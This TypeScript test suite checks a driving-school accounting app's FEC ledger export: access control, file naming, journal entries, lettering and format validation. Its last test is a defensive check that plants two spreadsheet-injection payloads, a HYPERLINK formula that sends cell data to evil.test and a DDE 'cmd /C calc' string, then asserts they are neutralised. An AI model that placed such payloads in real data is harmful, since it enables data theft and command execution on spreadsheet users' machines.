import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { InvoiceDetails } from '../../../src/modules/invoices/types';
import { filenameFromDisposition } from '../../../src/shared/api/client';
import { parisDate } from '../../../src/shared/i18n/paris-date';
import { createTestApp, signIn, type TestApp } from '../helpers';
import { apiAs, learnersOf, tvasOf, type Answer, type Api } from './client';
import { checkFec, total, type FecRow } from './fec-format';

let t: TestApp;
let gerant: Api;

/** The Centre's SIREN: the first 9 digits of its agencies' SIRET (server/seed/demo-data.ts). */
const CENTRE_SIREN = '812345678';

before(async () => {
  t = await createTestApp();
  gerant = apiAs(t, (await signIn(t.app, 'gerant@volant.test')).token);
});
after(() => t.close());

const fileNameOf = (res: Answer) => filenameFromDisposition(res.headers.get('content-disposition')) ?? '';
const entriesOf = (rows: readonly FecRow[]) => [...new Set(rows.map((r) => r.EcritureNum))].map((num) => rows.filter((r) => r.EcritureNum === num));

async function fec(api: Api, year: number) {
  const res = await api.get(`/accounting/ledger/fec?year=${year}`);
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.equal(res.headers.get('content-type'), 'text/plain; charset=utf-8');
  assert.match(res.headers.get('content-disposition') ?? '', /^attachment;/);
  return checkFec(res.bytes, fileNameOf(res), CENTRE_SIREN, year);
}

describe('FEC export', () => {
  test('permission, bounded year, SIREN required', async () => {
    const secretariat = apiAs(t, (await signIn(t.app, 'secretariat@volant.test')).token);
    assert.equal((await secretariat.get('/accounting/ledger/fec?year=2026')).status, 403);
    assert.equal((await apiAs(t, null).get('/accounting/ledger/fec?year=2026')).status, 401);
    for (const year of ['', '26', '1999', '2026-01', '20260']) assert.equal((await gerant.get(`/accounting/ledger/fec?year=${year}`)).status, 400, year);
    const port = apiAs(t, (await signIn(t.app, 'gerant@port.test')).token);
    const portRes = await port.get('/accounting/ledger/fec?year=2026');
    assert.equal(fileNameOf(portRes), '798765432FEC20261231.txt');
    await t.deps.db.updateTable('agencies').set({ siret: null }).where('structure_id', '=', t.ids.port.structureId).execute();
    await t.deps.db.updateTable('billings').set({ siret: null }).where('structure_id', '=', t.ids.port.structureId).execute();
    const missing = await port.get('/accounting/ledger/fec?year=2026');
    assert.equal(missing.status, 422);
    assert.match(missing.body.detail ?? '', /SIRET/);
  });

  test('the demo year: every validated invoice and credit note in VE, every payment in BQ/CA, nothing of another structure', async () => {
    const year = Number(parisDate(t.deps.now()).slice(0, 4));
    const rows = await fec(gerant, year);
    const bills = await t.deps.db
      .selectFrom('bills')
      .select(['number', 'kind', 'total_ttc_cents', 'total_ht_cents', 'total_tva_cents'])
      .where('structure_id', '=', t.ids.centre.structureId)
      .where('number', 'is not', null)
      .where('kind', 'in', ['invoice', 'credit_note'])
      .where('issue_date', '>=', `${year}-01-01`)
      .where('issue_date', '<=', `${year}-12-31`)
      .execute();
    const payments = await t.deps.db.selectFrom('payments').select(['receipt_number', 'amount_cents', 'method']).where('structure_id', '=', t.ids.centre.structureId).where('paid_on', 'like', `${year}-%`).execute();
    assert.ok(bills.some((b) => b.kind === 'credit_note') && payments.length > 0, 'the seed has credit notes and payments');
    const sales = rows.filter((r) => r.JournalCode === 'VE');
    assert.deepEqual([...new Set(sales.map((r) => r.PieceRef))].sort(), bills.map((b) => b.number!).sort());
    for (const bill of bills) {
      const lines = sales.filter((r) => r.PieceRef === bill.number);
      const customer = lines.filter((r) => r.CompteNum === '411000');
      assert.equal(customer.length, 1, bill.number!);
      assert.equal(total(customer, bill.kind === 'invoice' ? 'Debit' : 'Credit'), bill.total_ttc_cents, `${bill.number} : TTC au compte client`);
      const revenue = lines.filter((r) => r.CompteNum.startsWith('706'));
      const vat = lines.filter((r) => r.CompteNum.startsWith('44571'));
      assert.equal(total(revenue, bill.kind === 'invoice' ? 'Credit' : 'Debit'), bill.total_ht_cents, `${bill.number} : HT en 706`);
      assert.equal(total(vat, bill.kind === 'invoice' ? 'Credit' : 'Debit'), bill.total_tva_cents, `${bill.number} : TVA en 44571`);
    }
    for (const payment of payments) {
      const lines = rows.filter((r) => r.PieceRef === payment.receipt_number);
      const journal = payment.method === 'cash' ? 'CA' : 'BQ';
      assert.deepEqual(lines.map((r) => [r.JournalCode, r.CompteNum]), [[journal, journal === 'CA' ? '530000' : '512000'], [journal, '411000']]);
      assert.equal(total(lines, 'Debit'), payment.amount_cents);
    }
    assert.equal(entriesOf(rows).length, bills.length + payments.length);
    // The seeded invoice paid in full by card (validated 21 days ago) is lettered with its payment, when both fall in this year.
    if (parisDate(new Date(t.deps.now().getTime() - 21 * 86_400_000)).startsWith(String(year))) {
      const lettered = rows.filter((r) => r.EcritureLet !== '');
      assert.ok(lettered.some((r) => r.JournalCode === 'VE') && lettered.some((r) => r.JournalCode === 'BQ'));
    }
  });

  test('the checker refuses a file that breaks a rule (it can fail)', async () => {
    const year = Number(parisDate(t.deps.now()).slice(0, 4));
    const res = await gerant.get(`/accounting/ledger/fec?year=${year}`);
    const good = Buffer.from(res.bytes).toString('utf8');
    const lines = good.split('\r\n');
    const check = (text: string, name = fileNameOf(res)) => () => checkFec(new TextEncoder().encode(text), name, CENTRE_SIREN, year);
    assert.doesNotThrow(check(good));
    const cells = (i: number) => lines[i]!.split('\t');
    const withLine = (i: number, row: string[]) => lines.map((l, j) => (j === i ? row.join('\t') : l)).join('\r\n');
    assert.throws(check(good, `${CENTRE_SIREN}FEC${year}1230.txt`), /nom du fichier/);
    assert.throws(check(good.replace('EcritureLib', 'Libelle')), /en-tête/);
    assert.throws(check(withLine(1, cells(1).slice(0, 17))), /./, '17 columns');
    assert.throws(check(withLine(1, cells(1).map((c, k) => (k === 11 ? c.replace(',', '.') : c)))), /montant mal formé/);
    assert.throws(check(withLine(1, cells(1).map((c, k) => (k === 3 ? `${year}-01-01` : c)))), /AAAAMMJJ/);
    const withAux = lines.findIndex((l, j) => j > 0 && l.split('\t')[6] !== '');
    assert.throws(check(withLine(withAux, cells(withAux).map((c, k) => (k === 6 ? '' : c)))), /CompAuxNum/);
    assert.throws(check(withLine(withAux, cells(withAux).map((c, k) => (k === 4 ? '512000' : c)))), /compte auxiliaire hors compte client/);
    assert.throws(check(withLine(1, cells(1).map((c, k) => (k === 8 ? '' : c)))), /PieceRef obligatoire/);
    assert.throws(check(lines.filter((_, j) => j !== 2).join('\r\n')), /équilibrée/);
    const renumbered = lines.map((l) => l.split('\t')).map((r) => (r[2] === '2' ? [...r.slice(0, 2), '3', ...r.slice(3)] : r));
    assert.throws(check(renumbered.map((r) => r.join('\t')).join('\r\n')), /séquentiel/);
  });

  test('a year of credit notes and partial payments over several VAT rates: reversed credit notes, cash and bank, lettering of settled invoices only', async () => {
    t.clock.advance(366 * 86_400);
    try {
      const api = apiAs(t, (await signIn(t.app, 'gerant@volant.test')).token);
      const today = parisDate(t.deps.now());
      const year = Number(today.slice(0, 4));
      const orleans = t.ids.centre.agencies.orleans;
      const [learnerA, learnerB, learnerC] = (await learnersOf(t, orleans, 12)).slice(9);
      const tva = await tvasOf(t, orleans);
      const invoice = async (learner: number) => {
        const created = await api.post<InvoiceDetails>('/accounting/invoices', {
          agency: orleans,
          learner,
          lines: [
            { label: 'Leçon de conduite B (1 h)', quantity: 10, unitPrice: 45.83, tva: tva['20'] },
            { label: 'Frais d’examen', quantity: 1, unitPrice: 25, tva: tva['0'] },
          ],
        });
        assert.equal(created.status, 201, JSON.stringify(created.body));
        const validated = await api.post<InvoiceDetails>(`/accounting/invoices/${created.body.id}/validate`);
        assert.equal(validated.status, 200);
        return validated.body;
      };
      const pay = async (id: number, amount: number, method: string) => assert.equal((await api.post('/accounting/payments', { invoice: id, amount, method, paidOn: today })).status, 201);
      const credit = async (body: object) => assert.equal((await api.post('/accounting/credit-notes', body)).status, 201);

      const a = await invoice(learnerA!);
      assert.equal(a.totalPriceTtc, 574.96);
      await pay(a.id, 100, 'cash');
      await credit({ invoice: a.id, reason: 'Leçon annulée', lines: [{ invoiceLine: a.lines[0]!.id, quantity: 1 }] });
      await pay(a.id, 419.96, 'transfer');
      const b = await invoice(learnerB!);
      await pay(b.id, 50, 'card');
      const c = await invoice(learnerC!);
      await credit({ invoice: c.id, reason: 'Inscription annulée' });

      const rows = await fec(api, year);
      const entries = entriesOf(rows);
      assert.equal(entries.length, 8, 'three invoices, two credit notes, three payments');
      assert.deepEqual(entries.map((e) => e[0]!.JournalCode), ['VE', 'VE', 'VE', 'VE', 'VE', 'CA', 'BQ', 'BQ']);
      for (const e of entries) assert.ok(e.every((r) => r.EcritureDate === today.replaceAll('-', '')));

      const [invoiceA] = entries;
      assert.deepEqual(
        invoiceA!.map((r) => [r.CompteNum, r.CompAuxNum, r.Debit, r.Credit]),
        [
          // Orléans keeps one auxiliary account per learner; sales and VAT on the configured 706000 and 445710,
          // the exam fee exempt from VAT on the exempt-sales account (706500 by default, issue 37).
          ['411000', `411${String(learnerA).padStart(6, '0')}`, '574,96', '0,00'],
          ['706000', '', '0,00', '458,30'],
          ['706500', '', '0,00', '25,00'],
          ['445710', '', '0,00', '91,66'],
        ],
      );
      const creditA = entries.find((e) => e[0]!.EcritureLib.startsWith('Avoir') && e[0]!.EcritureLib.includes(a.customerName))!;
      assert.deepEqual(creditA.map((r) => [r.CompteNum, r.Debit, r.Credit]), [['411000', '0,00', '55,00'], ['706000', '45,83', '0,00'], ['445710', '9,17', '0,00']]);

      // A is settled (cash + credit note + transfer) and C wholly credited: lettered; B is partly paid: open.
      const customerLines = (number: string | null) => rows.filter((r) => r.CompteNum === '411000' && r.EcritureLib.includes(number ?? '—'));
      const letterOf = (number: string | null) => [...new Set(customerLines(number).map((r) => r.EcritureLet))];
      assert.equal(customerLines(a.number).length, 4);
      assert.equal(letterOf(a.number).length, 1);
      assert.notEqual(letterOf(a.number)[0], '');
      assert.equal(letterOf(c.number).length, 1);
      assert.notEqual(letterOf(c.number)[0], letterOf(a.number)[0]);
      assert.deepEqual(letterOf(b.number), ['']);
      assert.ok(rows.filter((r) => r.EcritureLet !== '').every((r) => r.DateLet === today.replaceAll('-', '')));
      assert.equal(total(rows, 'Debit'), total(rows, 'Credit'));
    } finally {
      t.clock.advance(-366 * 86_400);
    }
  });
  test('a refund is a treasury entry that pays the customer back: 411 debited, the bank credited, amounts positive', async () => {
    t.clock.advance(2 * 366 * 86_400);
    try {
      const api = apiAs(t, (await signIn(t.app, 'gerant@volant.test')).token);
      const today = parisDate(t.deps.now());
      const orleans = t.ids.centre.agencies.orleans;
      const [learner] = (await learnersOf(t, orleans, 12)).slice(8);
      const tva = await tvasOf(t, orleans);
      const created = await api.post<InvoiceDetails>('/accounting/invoices', {
        agency: orleans,
        learner,
        lines: [{ label: 'Leçon de conduite B (1 h)', quantity: 2, unitPrice: 45.83, tva: tva['20'] }],
      });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const invoice = (await api.post<InvoiceDetails>(`/accounting/invoices/${created.body.id}/validate`)).body;
      assert.equal((await api.post('/accounting/payments', { invoice: invoice.id, amount: invoice.totalPriceTtc, method: 'transfer', paidOn: today })).status, 201);
      assert.equal((await api.post('/accounting/credit-notes', { invoice: invoice.id, reason: 'Leçon annulée', lines: [{ invoiceLine: invoice.lines[0]!.id, quantity: 1 }] })).status, 201);
      assert.equal((await api.post('/accounting/refunds', { invoice: invoice.id, amount: 55, method: 'transfer', paidOn: today })).status, 201);

      const rows = await fec(api, Number(today.slice(0, 4)));
      const refund = entriesOf(rows).find((e) => e[0]!.EcritureLib.startsWith('Remboursement'));
      assert.ok(refund, 'the refund is in the file');
      assert.deepEqual(refund.map((r) => [r.JournalCode, r.CompteNum, r.Debit, r.Credit]), [['BQ', '512000', '0,00', '55,00'], ['BQ', '411000', '55,00', '0,00']]);
      // Invoice, credit note, payment and refund settle the customer's account: all lettered together.
      assert.equal(new Set(rows.filter((r) => r.CompteNum === '411000').map((r) => r.EcritureLet)).size, 1);
      assert.equal(total(rows, 'Debit'), total(rows, 'Credit'));
    } finally {
      t.clock.advance(-2 * 366 * 86_400);
    }
  });

  test('issue 36 S6: a learner named =HYPERLINK(…) and an organisation named +SUM(…) land defused in CompAuxLib; the file stays valid', async () => {
    const orleans = t.ids.centre.agencies.orleans;
    const [learner] = await learnersOf(t, orleans, 1);
    const tva = await tvasOf(t, orleans);
    const organisation = await t.deps.db.selectFrom('organizations').select('id').where('structure_id', '=', t.ids.centre.structureId).orderBy('id').executeTakeFirstOrThrow();
    await t.deps.db.updateTable('learners').set({ last_name: '=HYPERLINK("http://evil.test/?x="&A1;"Voir")', first_name: '' }).where('id', '=', learner!).execute();
    await t.deps.db.updateTable('organizations').set({ name: '+SUM(1+1)*cmd|\' /C calc\'!A0' }).where('id', '=', organisation.id).execute();
    const line = { label: 'Leçon', quantity: 1, unitPrice: 50, tva: tva['20'] };
    for (const party of [{ learner }, { learner, organization: `/api/organizations/${organisation.id}` }]) {
      const draft = await gerant.post<InvoiceDetails>('/accounting/invoices', { agency: orleans, ...party, lines: [line] });
      assert.equal(draft.status, 201, JSON.stringify(draft.body));
      assert.equal((await gerant.post(`/accounting/invoices/${draft.body.id}/validate`)).status, 200);
    }
    const rows = await fec(gerant, Number(parisDate(t.deps.now()).slice(0, 4)));
    const labels = new Set(rows.map((r) => r.CompAuxLib));
    assert.ok(labels.has(`'=HYPERLINK("http://evil.test/?x="&A1;"Voir")`), [...labels].join(' / '));
    assert.ok(labels.has(`'+SUM(1+1)*cmd ' /C calc'!A0`), [...labels].join(' / '));
    assert.ok(rows.every((r) => !/^[=+\-@]/.test(r.CompAuxLib) && !/^[=+@]/.test(r.EcritureLib)), 'no text cell starts a formula');
  });
});
